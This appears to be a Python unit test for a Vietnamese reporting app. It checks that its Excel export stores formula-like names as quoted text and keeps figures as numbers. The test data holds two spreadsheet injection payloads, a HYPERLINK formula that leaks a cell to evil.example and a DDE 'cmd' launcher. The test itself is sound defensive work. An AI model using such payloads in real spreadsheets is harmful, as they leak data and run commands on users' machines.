"""The monthly report's workbook: a name that looks like a formula (an agency's, a
unit's) is stored as text; the figures stay numbers."""

import io
import types
import zipfile

import openpyxl
from tiep_cong_dan.reporting.workbook import report_workbook


def test_names_in_the_report_workbook_are_never_formulas():
    # given tables whose names an administrator typed as formulas
    formula = '=HYPERLINK("http://evil.example/?x="&B4,"Xem")'
    tables = {
        "figures": types.SimpleNamespace(assignments={"overdue": 3}),
        "rows": [("Số kỳ tiếp", "1"), ("Tỷ lệ", "25,7")],
        "units": [(formula, 4, None)],
        "kinds": [("Khiếu nại", 4, None)],
        "trend": [("03/2026", 2, 4)],
        "overdue": [("=cmd|' /C calc'!A0", 3)],
    }
    report = types.SimpleNamespace(period=types.SimpleNamespace(label="tháng 03 năm 2026"))
    # when the workbook is written
    data = report_workbook(report, tables)
    # then no sheet holds a formula, the names are quoted text and the counts numbers
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 5
        assert all("<f>" not in package.read(n).decode() for n in sheets)
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert [c.value for c in book["Theo địa bàn"][4]] == [1, "'" + formula, 4, 100.0]
    assert [c.value for c in book["Nhiệm vụ quá hạn"][4]] == [1, "'=cmd|' /C calc'!A0", 3]
    assert [c.value for c in book["Tổng hợp"][5]] == [2, "Tỷ lệ", 25.7]
